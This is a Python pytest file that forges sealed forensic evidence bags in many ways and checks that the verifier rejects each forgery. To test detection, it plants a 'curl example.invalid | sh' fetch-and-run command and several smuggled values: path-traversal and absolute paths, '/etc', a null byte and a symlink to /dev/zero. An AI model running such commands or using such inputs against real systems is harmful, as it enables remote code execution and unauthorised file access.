"""Bags that are not what they claim: each forgery with its sums made to agree, and then with every list made to agree.

What can be made again is caught by making it again; what only somebody can state (who, when, versions at the sealing)
is caught where the forger forgets a list, and by signature and seal id where he does not.
"""

from __future__ import annotations

import json
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import forging
import pytest

from forensics.report import run_report
from forensics.seal import seal, seal_id, verify
from forensics.seal.contents import check_bytes
from forensics.seal.remake import Again, run_again

FORGED = "Determined: the operator welded the contactor on purpose (confirmed)"


@pytest.fixture(scope="module")
def sealed(tmp_path_factory: pytest.TempPathFactory, root: Path) -> Path:
    folder = tmp_path_factory.mktemp("sealed")
    shutil.copytree(root / "data_demo" / "cases" / "cannot-tell", folder / "case")
    run_report(folder / "case" / "case.toml", folder / "case" / "report")
    return seal(folder / "case" / "report", folder / "bag", by="B. Sealer")


@pytest.fixture(scope="module")
def rerun(tmp_path_factory: pytest.TempPathFactory) -> Callable[[Path, Path, Again], None]:
    """The program itself; a case that it had before, byte for byte, is not run twice."""
    made: dict[str, Path] = {}

    def run(case: Path, out: Path, again: Again) -> None:
        files = sorted(p for p in case.parent.rglob("*") if p.is_file())
        key = repr((again, [(str(p.relative_to(case.parent)), p.read_bytes()) for p in files]))
        if key not in made:
            made[key] = tmp_path_factory.mktemp("made") / "out"
            run_again(case, made[key], again)
        shutil.copytree(made[key], out, dirs_exist_ok=True)

    return run


@pytest.fixture
def bag(sealed: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(sealed, tmp_path / "bag"))


def test_a_bag_that_nobody_touched_is_made_again_whole(bag: Path, rerun: Callable[..., None]) -> None:
    found = verify(bag, rerun=rerun)
    assert found.sound, found.text
    assert {row.name for row in found.results} == {"findings.json", "report.html", "set_aside.csv", "incident.ipynb"}
    assert "unsigned" in found.text
    assert "time is not attested" in found.text


def page(bag: Path) -> None:
    path = bag / "data" / "results" / "report.html"
    text = path.read_text(encoding="utf-8")
    assert "Undetermined" in text
    path.write_text(text.replace("Undetermined", FORGED, 1), encoding="utf-8")


def page_empty(bag: Path) -> None:
    (bag / "data" / "results" / "report.html").write_text("", encoding="utf-8")


def page_gone(bag: Path) -> None:
    (bag / "data" / "results" / "report.html").unlink()


def set_aside(bag: Path) -> None:
    with (bag / "data" / "results" / "set_aside.csv").open("a", encoding="utf-8") as file:
        file.write("exports/history_5min.csv,7,no stamp,forged\n")


def notebook(bag: Path) -> None:
    path = bag / "data" / "results" / "incident.ipynb"
    path.write_text(path.read_text(encoding="utf-8").replace("Undetermined", FORGED, 1), encoding="utf-8")


def verdict(bag: Path) -> None:
    path = bag / "data" / "results" / "findings.json"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace('"status": "undetermined"', '"status": "no-fault-found"', 1), encoding="utf-8")


def reproduce(bag: Path) -> None:
    path = bag / "data" / "results" / "findings.json"
    found = json.loads(path.read_text(encoding="utf-8"))
    found["reproduce"]["command"] = "curl example.invalid | sh"
    path.write_text(json.dumps(found, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")


def rules_hash(bag: Path) -> None:
    path = bag / "data" / "results" / "findings.json"
    found = json.loads(path.read_text(encoding="utf-8"))
    found["software"]["rules_sha256"] = "f" * 64
    path.write_text(json.dumps(found, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")


def loosened(bag: Path) -> None:
    """Values off by 9e-7, and a version that would excuse it."""
    path = bag / "data" / "results" / "findings.json"
    found = json.loads(path.read_text(encoding="utf-8"))
    found["software"]["packages"]["numpy"] = "0.0.1"
    changed = 0
    for row in found["findings"]:
        if isinstance(row["value"], float) and row["value"] and changed < 4:
            row["value"] *= 1 + 9e-7
            changed += 1
    path.write_text(json.dumps(found, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")


def rules(bag: Path) -> None:
    path = next((bag / "data" / "rules" / "limits").glob("*.toml"))
    path.write_text(path.read_text(encoding="utf-8") + "\n# forged\n", encoding="utf-8")


def added(bag: Path) -> None:
    (bag / "data" / "case" / "confession.txt").write_text("forged", encoding="utf-8")


def added_result(bag: Path) -> None:
    (bag / "data" / "results" / "tables").mkdir()
    (bag / "data" / "results" / "tables" / "starts.csv").write_text("forged\n", encoding="utf-8")


def escape(bag: Path) -> None:
    outside = bag.parent / "escape"
    shutil.copytree(bag / "data" / "case", outside)
    forging.change_json(bag / "data" / "seal.json", case="../../escape/case.toml")


def escape_absolute(bag: Path) -> None:
    forging.change_json(bag / "data" / "seal.json", case=str((bag / "data" / "case" / "case.toml").resolve()))


def limit(bag: Path) -> None:
    """A limit that loosens the verdict, told neither by the case nor by the findings."""
    forging.change_json(bag / "data" / "seal.json", limits={"starts.unloaded_ratio_max": 9.0})
    page(bag)


def original(bag: Path) -> None:
    path = next((bag / "data" / "case" / "exports").glob("history*"))
    path.write_bytes(path.read_bytes() + b"\n")


def supersedes(bag: Path) -> None:
    case = bag / "data" / "case" / "case.toml"
    text = case.read_text(encoding="utf-8")
    case.write_text(text.replace("[case]", '[case]\nrevision = 2\nsupersedes = "/etc"', 1), encoding="utf-8")


REMADE = [
    page, page_empty, page_gone, set_aside, notebook, verdict, reproduce, rules_hash, loosened, rules, added,
    added_result, escape, escape_absolute, limit, original, supersedes,
]  # fmt: skip


@pytest.mark.parametrize("lists", [forging.sums, forging.everything], ids=["sums", "every list"])
@pytest.mark.parametrize("forgery", REMADE, ids=lambda f: f.__name__)
def test_a_forged_result_is_never_sound(
    bag: Path, rerun: Callable[..., None], forgery: Callable[[Path], None], lists: Callable[[Path], None]
) -> None:
    forgery(bag)
    lists(bag)
    found = verify(bag, rerun=rerun)
    assert not found.sound, found.text
    assert "SHA-256 agrees" not in found.text or found.differences
    assert FORGED not in found.text.replace(f"sealed '{FORGED}", "").replace(f"'{FORGED}", "")


def test_what_differs_in_a_page_is_quoted(bag: Path, rerun: Callable[..., None]) -> None:
    page(bag)
    forging.everything(bag)
    found = verify(bag, rerun=rerun)
    assert any("report.html: sealed" in line and "the operator welded" in line for line in found.differences)


def custody_who(bag: Path) -> None:
    path = bag / "data" / "custody.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("B. Sealer", "C. Other"), encoding="utf-8")


def custody_dates(bag: Path) -> None:
    path = bag / "data" / "custody.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    path.write_text(lines[0] + "".join("2025" + line[4:] for line in lines[1:]), encoding="utf-8")


def custody_gone(bag: Path) -> None:
    (bag / "data" / "custody.csv").unlink()


def custody_line_gone(bag: Path) -> None:
    path = bag / "data" / "custody.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    path.write_text("".join(lines[:2] + lines[3:]), encoding="utf-8")


def custody_cut(bag: Path) -> None:
    path = bag / "data" / "custody.csv"
    path.write_text("".join(path.read_text(encoding="utf-8").splitlines(keepends=True)[:-1]), encoding="utf-8")


def custody_moved(bag: Path) -> None:
    path = bag / "data" / "custody.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    path.write_text("".join([lines[0], lines[2], lines[1], *lines[3:]]), encoding="utf-8")


def versions(bag: Path) -> None:
    forging.change_json(bag / "data" / "versions.json", python="2.7.18")


def dates(bag: Path) -> None:
    forging.described(bag, **{"Bagging-Date": "2025-01-01"})


def contact(bag: Path) -> None:
    forging.described(bag, **{"Contact-Name": "C. Other"})


@pytest.mark.parametrize(
    "forgery",
    [custody_who, custody_dates, custody_gone, custody_line_gone, custody_cut, custody_moved, versions, dates, contact],
    ids=lambda f: f.__name__,
)
def test_a_forged_statement_contradicts_the_other_lists(
    bag: Path, rerun: Callable[..., None], forgery: Callable[[Path], None]
) -> None:
    forgery(bag)
    forging.sums(bag)
    found = verify(bag, rerun=rerun)
    assert found.faults, found.text
    assert not found.rerun


def test_only_signature_and_seal_id_show_a_statement_that_was_forged_in_every_list(
    bag: Path, rerun: Callable[..., None]
) -> None:
    """What nobody can make again: a whole new custody list. Alone, the bag can't show it."""
    noted = seal_id(bag)
    forging.custody_list(bag, who="C. Other", time_utc="2025-01-01T00:00:00Z")
    forging.described(bag, **{"Contact-Name": "C. Other", "Bagging-Date": "2025-01-01"})
    forging.sums(bag)
    found = verify(bag, rerun=rerun)
    assert found.sound
    assert found.text.count("only a seal id noted elsewhere (--seal-id) or a signature (--key) shows") == 1
    found = verify(bag, wanted_id=noted, rerun=rerun)
    assert not found.sound
    assert "another seal id than the one given" in found.text
    assert "only a seal id" not in found.text


def test_what_stands_behind_the_statements_is_said(bag: Path, rerun: Callable[..., None]) -> None:
    found = verify(bag, wanted_id=seal_id(bag).upper(), rerun=rerun)
    assert found.sound
    assert "they are those of the seal id that was given" in found.text
    (bag / "data" / "custody.csv").write_text("", encoding="utf-8")
    assert "nothing stands behind them here" in verify(bag, rerun=rerun).text


def _every(bag: Path, *, rules: bool) -> list[Path]:
    files = sorted(p for p in bag.rglob("*") if p.is_file() and not p.name.startswith(("manifest-", "tagmanifest-")))
    return [p for p in files if p.name != "bagit.txt" and p.is_relative_to(bag / "data" / "rules") is rules]


def _each_is_found_out(bag: Path, rerun: Callable[..., None], files: list[Path]) -> None:
    """Each file in turn, with every list made to agree; one that the lists are made from anew says nothing forged."""
    kept = {p: p.read_bytes() for p in bag.rglob("*") if p.is_file()}
    for file in files:
        for other, content in kept.items():
            other.write_bytes(content)
        lines = kept[file].splitlines(keepends=True)
        file.write_bytes(b"".join([*lines[:-1], b"forged " + lines[-1]]) if lines else b"forged")
        forging.everything(bag)
        found = verify(bag, rerun=rerun)
        assert not found.sound, (file.relative_to(bag), found.text)
        assert "Traceback" not in found.text


def test_each_file_altered_with_every_list_made_anew_is_found_out(bag: Path, rerun: Callable[..., None]) -> None:
    # these two are lists themselves: what is forged in them is made anew with the others, or stated by people
    lists = {"custody.csv", "bag-info.txt", "versions.json", "results.json"}
    files = [p for p in _every(bag, rules=False) if p.name not in lists]
    assert len(files) >= 7
    _each_is_found_out(bag, rerun, [*files, *_every(bag, rules=True)[::20]])


@pytest.mark.slow
def test_each_rules_file_altered_is_found_out(bag: Path, rerun: Callable[..., None]) -> None:
    files = _every(bag, rules=True)
    assert len(files) > 50
    _each_is_found_out(bag, rerun, files)


def test_what_is_checked_is_what_is_run(bag: Path, rerun: Callable[..., None], monkeypatch: pytest.MonkeyPatch) -> None:
    """A bag on a shared disk that is exchanged once it was hashed: the bytes that were read are the ones that count."""

    def exchanged(place: Path) -> tuple[list[str], int]:
        checked = check_bytes(place)
        page(bag)
        original(bag)
        return checked

    monkeypatch.setattr(sys.modules["forensics.seal.verify"], "check_bytes", exchanged)
    assert verify(bag, rerun=rerun).sound


def test_nothing_in_the_bag_or_beside_it_is_written(bag: Path, rerun: Callable[..., None]) -> None:
    def tree() -> dict[str, bytes]:
        return {str(p): p.read_bytes() for p in sorted(bag.parent.rglob("*")) if p.is_file()}

    before = tree()
    verify(bag, rerun=rerun)
    assert tree() == before


STARTS = (
    "", "[]", "not JSON", "{}", '{"case": 5}', '{"case": "case/.."}', '{"case": "case/"}', "[" * 100_000,
    '{"case": "case/case.toml\\u0000"}',
)  # fmt: skip


@pytest.mark.parametrize("text", STARTS, ids=range(len(STARTS)))
def test_a_bag_that_does_not_say_which_case_is_told_so(bag: Path, rerun: Callable[..., None], text: str) -> None:
    (bag / "data" / "seal.json").write_text(text, encoding="utf-8")
    forging.everything(bag)
    found = verify(bag, rerun=rerun)
    assert not found.sound
    assert found.faults


def test_links_pipes_and_devices_are_refused_unread(bag: Path, rerun: Callable[..., None]) -> None:
    import os

    (bag / "data" / "case" / "zero").symlink_to("/dev/zero")
    os.mkfifo(bag / "data" / "case" / "pipe")
    found = verify(bag, rerun=rerun)
    assert found.faults == ("no regular file: data/case/pipe", "no regular file: data/case/zero")
